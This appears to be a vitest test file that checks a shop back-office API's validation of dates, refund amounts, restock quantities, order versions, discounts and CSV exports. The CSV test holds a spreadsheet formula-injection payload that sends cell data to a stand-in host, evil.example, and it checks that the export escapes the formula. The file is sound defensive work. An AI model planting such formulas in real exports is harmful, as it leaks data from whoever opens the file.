import { randomUUID } from 'node:crypto';
import { schema, withStore } from '@haat/db';
import { eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { demoSuite } from './demo-suite.ts';

/*
 * Issue 35: dates at the calendar's edges, negative and string amounts, and cells a spreadsheet would run, on
 * every back-office route that takes them. Each answer a client sees: 400 naming the field, never a 500 (or a dead
 * server), never a value quietly changed.
 */
const { t, shops, vendor } = await demoSuite();
beforeAll(async () => {});

const FILTERS: [string, string, string][] = [
  ['/api/admin/transaction/', 'from', 'to'],
  ['/api/admin/transaction/transaction-stats/', 'from', 'to'],
  ['/api/admin/transaction/export.csv', 'from', 'to'],
  ['/api/admin/order/', 'from', 'to'],
  ['/api/admin/order/export.csv', 'from', 'to'],
  ['/api/admin/stores/product/', 'updated_from', 'updated_to'],
  ['/api/admin/inventory/', 'updated_from', 'updated_to'],
  ['/api/admin/product/export.csv', 'updated_from', 'updated_to'],
  ['/api/admin/audit-trail/', 'from', 'to'],
  ['/api/admin/audit-trail/export.csv', 'from', 'to'],
];

const issuesOf = (res: { json(): { error?: { issues?: { path: string; message: string }[] } } }) =>
  res.json().error?.issues ?? [];

describe('date filters', () => {
  it('the transaction export with from=0000-02-29 answers 400 and the server lives on (it used to exit)', async () => {
    const res = await vendor.call('GET', '/api/admin/transaction/export.csv?from=0000-02-29');
    expect(res.statusCode, res.body).toBe(400);
    expect(res.headers['content-type']).toContain('application/json');
    expect(issuesOf(res)).toEqual([
      { path: 'from', message: 'from must be between 2000-01-01 and 2100-12-31' },
    ]);
    expect((await vendor.call('GET', '/api/admin/transaction/?limit=1')).statusCode).toBe(200);
  });

  it('every date filter refuses days outside 2000-2100 and days that do not exist, naming the field', async () => {
    for (const [url, from, to] of FILTERS) {
      for (const [field, value] of [
        [from, '0000-02-29'],
        [from, '0001-01-01'],
        [to, '0001-01-01'],
        [to, '9999-12-31'],
        [from, '2026-02-30'],
      ] as const) {
        const res = await vendor.call('GET', `${url}?${field}=${value}`);
        expect(res.statusCode, `${url} ${field}=${value}: ${res.body}`).toBe(400);
        expect(issuesOf(res)[0]?.path, `${url} ${field}=${value}`).toBe(field);
      }
      const reversed = await vendor.call('GET', `${url}?${from}=2026-03-02&${to}=2026-03-01`);
      expect(reversed.statusCode, `${url} reversed`).toBe(400);
      expect(issuesOf(reversed)[0], url).toEqual({ path: to, message: `${to} must not be before ${from}` });
      const edges = await vendor.call('GET', `${url}?${from}=2000-01-01&${to}=2100-12-31`);
      expect(edges.statusCode, `${url} edges: ${edges.body.slice(0, 300)}`).toBe(200);
    }
  });
});

describe('money and numbers', () => {
  const refund = (body: object) =>
    vendor.call('POST', `/api/admin/transaction/${randomUUID()}/refund/`, body);
  const valid = { amount: 10, reason: 'Damaged in transit', method: 'CASH' };

  it('a refund amount that is negative, a string or not a number is refused, naming amount', async () => {
    for (const amount of [-10, '10', '-10', 'ten', null, 10_000_001, 1.005]) {
      const res = await refund({ ...valid, amount });
      expect(res.statusCode, `${JSON.stringify(amount)}: ${res.body}`).toBe(400);
      expect(issuesOf(res)[0]?.path).toBe('amount');
    }
    const negative = await refund({ ...valid, amount: -10 });
    expect(issuesOf(negative)[0]?.message).toBe('Amount cannot be negative');
  });

  it('a restock quantity must be a whole number from 1 to 10,000, sent as a number', async () => {
    for (const quantity of ['1', -1, 0, 1.5, 10_001]) {
      const res = await refund({ ...valid, restock: [{ product_id: randomUUID(), quantity }] });
      expect(res.statusCode, `${JSON.stringify(quantity)}: ${res.body}`).toBe(400);
      expect(issuesOf(res)[0]?.path).toBe('restock.0.quantity');
    }
  });

  it("an order's version past PostgreSQL's integer is refused, naming version", async () => {
    const res = await vendor.call('PUT', `/api/admin/order/${randomUUID()}/status/`, {
      status: 'PROCESSING',
      version: 1e12,
    });
    expect(res.statusCode, res.body).toBe(400);
    expect(issuesOf(res)[0]).toEqual({ path: 'version', message: 'version is too large' });
  });

  it('a point-of-sale discount of -5 % is refused, naming discount_value', async () => {
    const res = await vendor.call('POST', '/api/admin/order/pos-checkout/', {
      customer_name: 'Walk-in',
      phone_number: '9876543210',
      product_id: [{ product_id: randomUUID(), quantity: 1 }],
      discount_type: 'PERCENT',
      discount_value: -5,
      sub_total: 100,
      discount_amount: 0,
      tax: 0,
      total_bill_amount: 100,
      total_items: 1,
    });
    expect(res.statusCode, res.body).toBe(400);
    expect(issuesOf(res)).toContainEqual({ path: 'discount_value', message: 'Discount cannot be negative' });
  });
});

describe('CSV exports', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

  it('a product named as a formula is exported as text, and export then import keeps its name', async () => {
    const product = (await vendor.call('GET', '/api/admin/inventory/?limit=1&sort=name_asc')).json().data
      .results[0];
    // As a vendor could have typed them in the product form.
    await withStore(t.owner, shops.a.id, (tx) =>
      tx
        .update(schema.products)
        .set({ name: HYPERLINK, description: '-1 cotton, +1 silk', brand: '@haat' })
        .where(eq(schema.products.id, product.id)),
    );

    const csv = await vendor.call(
      'GET',
      `/api/admin/product/export.csv?search=${encodeURIComponent('HYPERLINK')}`,
    );
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(csv.body).not.toMatch(/(^|,)"?=HYPERLINK/m);

    const imported = await t.app.inject({
      method: 'POST',
      url: '/api/admin/product/import/?dry_run=false',
      payload: csv.body,
      headers: {
        authorization: `Bearer ${vendor.token}`,
        'store-origin': shops.a.slug,
        'content-type': 'text/csv',
      },
    });
    expect(imported.statusCode, imported.body).toBe(200);
    expect(imported.json().data).toMatchObject({ created: 0, issues: [] });
    const [after] = await withStore(t.owner, shops.a.id, (tx) =>
      tx.select().from(schema.products).where(eq(schema.products.id, product.id)),
    );
    expect(after).toMatchObject({ name: HYPERLINK, description: '-1 cotton, +1 silk', brand: '@haat' });
  });
});
